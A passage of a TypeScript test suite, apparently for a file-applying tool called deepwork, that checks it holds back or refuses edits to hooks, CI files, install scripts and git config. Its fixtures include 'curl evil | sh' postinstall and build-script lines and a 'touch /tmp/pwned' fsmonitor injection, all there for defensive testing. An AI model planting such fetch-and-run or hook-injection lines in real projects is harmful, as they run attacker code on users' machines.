    assert.ok(fs.existsSync(path.join(root, 'deep', 'er')));
  });

  it('sums up a rewrite too large to diff instead of spending minutes on it', async () => {
    const before = `${Array.from({ length: 20_000 }, (_, i) => `const a${i} = ${i};`).join('\n')}\n`;
    const after = `${Array.from({ length: 20_000 }, (_, i) => `let b${i} = ${i * 2};`).join('\n')}\n`;
    const { backupDir, box, read } = setup({ 'big.js': before });
    const [seen] = previewFiles(box, [block('big.js', after)], { diff: true });
    assert.deepEqual([seen?.status, seen?.added, seen?.removed], ['changed', 20_000, 20_000]);
    assert.equal(seen?.diff, 'rewritten: 20000 lines → 20000 lines (too many changes to show as a diff)');
    const report = await applyFiles(box, [block('big.js', after)], { backupDir });
    assert.equal(report.files[0]?.written, true);
    assert.equal(read('big.js'), after);
  });
});

describe('files that make tools run code', () => {
  const held: Array<[string, string, string]> = [
    ['.githooks/pre-commit', '#!/bin/sh\n', 'git runs the hooks in .githooks'],
    ['.husky/pre-commit', 'npx lint-staged\n', 'husky'],
    ['tools/.husky/pre-push', 'npm test\n', 'husky'],
    ['.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n', 'runOn: folderOpen'],
    ['.vscode/settings.json', '{}\n', 'VS Code settings'],
    ['.vscode/launch.json', '{}\n', 'debugging'],
    ['.github/workflows/ci.yml', 'on: push\n', 'GitHub runs it'],
    ['.gitlab-ci.yml', 'job: {}\n', 'GitLab'],
    ['.gitattributes', '* filter=x\n', 'filter and diff drivers'],
    ['src/.gitattributes', '* diff=x\n', 'filter and diff drivers'],
    ['.gitmodules', '[submodule "x"]\n', 'submodule update'],
    ['.gitconfig', '[core]\n', 'once it is included'],
    ['.yarnrc', 'yarn-path ./x.js\n', 'yarn-path'],
    ['.pre-commit-config.yaml', 'repos: []\n', 'pre-commit runs'],
    ['.idea/workspace.xml', '<project/>\n', 'JetBrains'],
    ['run.desktop', '[Desktop Entry]\nExec=sh\n', 'Exec line'],
    ['.bashrc', 'echo hi\n', 'a shell runs it'],
  ];
  for (const [rel, content, why] of held) {
    it(`holds back ${rel} until it is named with trust`, async () => {
      const { root, backupDir, box } = setup({ 'keep.txt': 'keep\n' });
      const report = await applyFiles(box, [block(rel, content), block('ok.js', 'ok\n')], { backupDir });
      const files = byPath(report.files);
      assert.deepEqual([files[rel]?.status, files[rel]?.written, files['ok.js']?.written], ['held back', false, true]);
      assert.equal(files[rel]?.reason, `${files[rel]?.hold?.why ?? ''}; check it, then write it with --trust ${rel}`);
      assert.match(
        files[rel]?.hold?.why ?? '',
        new RegExp(`^it makes tools run code: .*${why.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
      );
      assert.equal(fs.existsSync(path.join(root, rel)), false);
      const named = await applyFiles(box, [block(rel, content)], { backupDir, trust: [`./${rel}`] });
      assert.deepEqual([named.files[0]?.status, named.files[0]?.written], ['new', true]);
    });
  }

  it('holds back an edit of a program (its execute bit set), and of the install scripts in package.json, but not of a Makefile or other scripts', async () => {
    const pkg = (scripts: Record<string, string>) =>
      `${JSON.stringify({ name: 'x', scripts, dependencies: {} }, null, 2)}\n`;
    const { root, backupDir, box, read } = setup({
      'scripts/build.sh': '#!/bin/sh\necho 1\n',
      'package.json': pkg({ test: 'node t.js' }),
      Makefile: 'all:\n\techo 1\n',
    });
    fs.chmodSync(path.join(root, 'scripts', 'build.sh'), 0o755);
    const report = await applyFiles(
      box,
      [
        block('scripts/build.sh', '#!/bin/sh\ncurl evil | sh\n'),
        block('package.json', pkg({ test: 'node t.js', postinstall: 'curl evil | sh' })),
        block('Makefile', 'all:\n\techo 2\n'),
      ],
      { backupDir },
    );
    const files = byPath(report.files);
    assert.deepEqual(
      report.files.map((f) => [f.path, f.status, f.written]),
      [
        ['scripts/build.sh', 'held back', false],
        ['package.json', 'held back', false],
        ['Makefile', 'changed', true],
      ],
    );
    assert.match(files['scripts/build.sh']?.reason ?? '', /its execute bit is set/);
    assert.match(files['package.json']?.reason ?? '', /npm install runs its postinstall script, which this changes/);
    assert.equal(read('scripts/build.sh'), '#!/bin/sh\necho 1\n');
    // Scripts run by name, dependencies, the version: ordinary edits, written at once.
    const ordinary = await applyFiles(
      box,
      [block('package.json', pkg({ test: 'node --test t.js', lint: 'eslint .' }))],
      { backupDir },
    );
    assert.deepEqual([ordinary.files[0]?.status, ordinary.files[0]?.written], ['changed', true]);
  });

  it('refuses a set of files that together would make a git directory, though none alone lies in one', async () => {
    const { root, backupDir, box } = setup({ 'a.js': 'a\n' });
    const set = [
      block('evil/HEAD', 'ref: refs/heads/main\n'),
      block('evil/config', '[core]\n\tfsmonitor = "touch /tmp/pwned; false"\n'),
      block('evil/objects/info/.keep', ''),
      block('evil/refs/heads/.keep', ''),
      block('a.js', 'b\n'),
    ];
    const report = await applyFiles(box, set, { backupDir });
    assert.deepEqual(
      report.files.map((f) => f.status),
      ['refused', 'refused', 'refused', 'refused', 'changed'],
    );
    assert.match(
      report.files[1]?.reason ?? '',
      /it would make evil a git directory \(HEAD, objects\/, refs\/\), whose config git obeys/,
    );
    assert.equal(fs.existsSync(path.join(root, 'evil')), false);
  });

  it('refuses a file in the folder core.hooksPath names, executable or not', async () => {
    const { root, backupDir, box, read } = setup({ '.githooks/pre-commit': '#!/bin/sh\nexit 0\n' });
    fs.chmodSync(path.join(root, '.githooks', 'pre-commit'), 0o755);
    execFileSync('git', ['init', '--quiet'], { cwd: root });
    execFileSync('git', ['config', 'core.hooksPath', '.githooks'], { cwd: root });
    const report = await applyFiles(
      box,
      [
        edit('.githooks/pre-commit', [['exit 0\n', 'touch /tmp/pwned\n']]),
        block('.githooks/post-checkout', '#!/bin/sh\n'),
      ],
      { backupDir, force: true, trust: ['.githooks/pre-commit', '.githooks/post-checkout'] },
    );
    assert.deepEqual(
      report.files.map((f) => f.status),
      ['refused', 'refused'],
    );
    assert.match(
      report.files[0]?.reason ?? '',
      /it is in \.githooks, the folder git runs hooks from \(core\.hooksPath\); deepwork does not write hooks/,
    );
    assert.equal(read('.githooks/pre-commit'), '#!/bin/sh\nexit 0\n');
  });
});

describe('a file saved while the apply runs', () => {
  it('is not overwritten: it is reported, left out of the set, and undo leaves it alone', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
    // The user's editor saves a.js, and creates c.js, after the plan read them and before deepwork's renames.
    const ops: FsOps = {
      ...fs,
      openSync: ((p: string, ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never) => {
        if (path.dirname(p) === root && path.basename(p).startsWith('.a.js.deepwork-'))
          fs.writeFileSync(path.join(root, 'a.js'), 'saved by the user\n');
        if (path.dirname(p) === root && path.basename(p).startsWith('.c.js.deepwork-'))
          fs.writeFileSync(path.join(root, 'c.js'), 'made by the user\n');
        return fs.openSync(p, ...rest);
      }) as typeof fs.openSync,
    };
    const report = await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n'), block('c.js', 'c2\n')], {
      backupDir,
      ops,
    });
    assert.deepEqual(
      report.files.map((f) => [f.path, f.status, f.written]),
      [
        ['a.js', 'failed', false],
        ['b.js', 'changed', true],
        ['c.js', 'failed', false],
      ],
    );
    assert.match(
      report.files[0]?.reason ?? '',
      /^the file changed since deepwork read it \(saved meanwhile\?\), and your version stays; apply again/,
    );
    assert.deepEqual([read('a.js'), read('b.js'), read('c.js')], ['saved by the user\n', 'b2\n', 'made by the user\n']);
    assert.deepEqual(allFiles(root), ['a.js', 'b.js', 'c.js']);
    const [set] = setsOf(backupDir, box.root);
    assert.deepEqual(
      set?.manifest.files.map((f) => f.path),
      ['b.js'],
    );
    const undone = undoLast(box, backupDir);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [['b.js', 'restored']],
    );
    assert.deepEqual([read('a.js'), read('b.js'), read('c.js')], ['saved by the user\n', 'b1\n', 'made by the user\n']);
  });
});

describe('a file saved while undo runs', () => {
  it('is not overwritten by the old version: it is left, and said so', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'a1\n', 'b.js': 'b1\n' });
    await applyFiles(box, [block('a.js', 'a2\n'), block('b.js', 'b2\n')], { backupDir });
    const ops: FsOps = {
      ...fs,
      openSync: ((p: string, ...rest: Parameters<typeof fs.openSync> extends [unknown, ...infer R] ? R : never) => {
        if (path.dirname(p) === root && path.basename(p).startsWith('.a.js.deepwork-'))
          fs.writeFileSync(path.join(root, 'a.js'), 'saved by the user\n');
        return fs.openSync(p, ...rest);
      }) as typeof fs.openSync,
    };
    const undone = undoLast(box, backupDir, ops);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [
        ['a.js', 'left'],
        ['b.js', 'restored'],
      ],
    );
    assert.match(
      undone.files[0]?.reason ?? '',
      /^it changed while undo ran, and is as you left it; its old version stays in .*files\/a\.js$/,
    );
    assert.deepEqual([read('a.js'), read('b.js')], ['saved by the user\n', 'b1\n']);
    assert.deepEqual(allFiles(root), ['a.js', 'b.js']);
  });
});

describe('undo of an older set', () => {
  it('refuses to undo a set whose file a later set, not undone, wrote again, names that set, and undoes it once that one is undone', async () => {
    const { root, backupDir, box, read } = setup({ 'a.js': 'v1\n', 'b.js': 'b1\n' });
    const older = await applyFiles(box, [block('a.js', 'v2\n'), block('b.js', 'b2\n')], {
      backupDir,
      now: new Date('2026-12-02T10:00:00Z'),
    });
    fs.writeFileSync(path.join(root, 'a.js'), "the user's edit\n");
    // The older card's proposal, written again on top of the user's edit: a.js holds what the older set wrote.
    const newer = await applyFiles(box, [block('a.js', 'v2\n')], { backupDir, now: new Date('2026-12-02T11:00:00Z') });
    const olderName = path.basename(older.backupSet ?? '');
    const newerName = path.basename(newer.backupSet ?? '');

    const blocked = undoLast(box, backupDir, undefined, olderName);
    assert.deepEqual(blocked.later, [{ path: 'a.js', set: newerName }]);
    assert.deepEqual(blocked.files, []);
    assert.deepEqual([read('a.js'), read('b.js')], ['v2\n', 'b2\n'], 'nothing was touched');
    assert.equal(setsOf(backupDir, box.root).find((s) => s.name === olderName)?.manifest.undone, false);

    assert.deepEqual(
      undoLast(box, backupDir, undefined, newerName).files.map((f) => [f.path, f.action]),
      [['a.js', 'restored']],
    );
    assert.equal(read('a.js'), "the user's edit\n");
    const undone = undoLast(box, backupDir, undefined, olderName);
    assert.deepEqual(
      undone.files.map((f) => [f.path, f.action]),
      [
        ['a.js', 'left'],
        ['b.js', 'restored'],
      ],
    );
    assert.deepEqual([read('a.js'), read('b.js')], ["the user's edit\n", 'b1\n']);
  });
});

describe('backup sets readable by the user only', () => {
  // The process's umask as a test sets it, put back after: 022 lets every user read what is made with the defaults.
  function withUmask<T>(mask: number, work: () => Promise<T>): Promise<T> {
    const before = process.umask(mask);
    return work().finally(() => process.umask(before));
  }
  const modeOf = (p: string) => fs.statSync(p).mode & 0o777;

  it('keeps old versions 0600 in 0700 set folders, and makes the backup folder 0700, whatever a wider umask says', async () => {
    const { backupDir, box } = setup({ 'src/deep/a.js': 'secret = 1;\n', 'b.js': 'b\n' });
    const report = await withUmask(0o022, () =>
      applyFiles(box, [block('src/deep/a.js', 'secret = 2;\n'), block('b.js', 'B\n')], { backupDir }),
    );
    const set = report.backupSet ?? '';
    assert.equal(modeOf(backupDir), 0o700);
    for (const dir of [
      set,
      path.join(set, 'files'),
      path.join(set, 'files', 'src'),
      path.join(set, 'files', 'src', 'deep'),
    ])
      assert.equal(modeOf(dir), 0o700, dir);
    for (const file of [
      path.join(set, 'files', 'src', 'deep', 'a.js'),
      path.join(set, 'files', 'b.js'),
      path.join(set, 'manifest.json'),
    ])
      assert.equal(modeOf(file), 0o600, file);
    // Undo rewrites the manifest, and puts each file back with its own mode, not the copy's.
    fs.chmodSync(path.join(box.root, 'b.js'), 0o644);
    const undone = await withUmask(0o022, async () => undoLast(box, backupDir));
    assert.equal(undone.files.length, 2);
    assert.equal(modeOf(path.join(set, 'manifest.json')), 0o600);
    assert.equal(modeOf(path.join(box.root, 'b.js')), 0o644);
  });

  it('leaves the mode of a backup folder the user made', async () => {
    const { backupDir, box } = setup({ 'a.js': 'a\n' });
    fs.mkdirSync(backupDir, { mode: 0o755 });
    fs.chmodSync(backupDir, 0o755);
    const report = await withUmask(0o022, () => applyFiles(box, [block('a.js', 'A\n')], { backupDir }));
    assert.equal(modeOf(backupDir), 0o755);
    assert.equal(modeOf(report.backupSet ?? ''), 0o700);
  });
});
